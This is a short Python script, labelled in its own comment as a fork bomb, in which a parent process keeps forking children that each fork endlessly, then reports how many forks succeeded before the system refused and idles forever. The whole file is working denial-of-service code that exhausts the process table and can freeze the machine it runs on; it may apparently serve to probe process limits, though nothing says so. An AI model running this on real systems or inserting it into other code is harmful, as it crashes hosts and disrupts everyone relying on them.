# Fork bomb: every process forks for ever.
import os
import time

n = 0
while True:
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        n += 1
    except OSError:
        print("fork refused after", n, flush=True)
        break
while True:
    time.sleep(1)
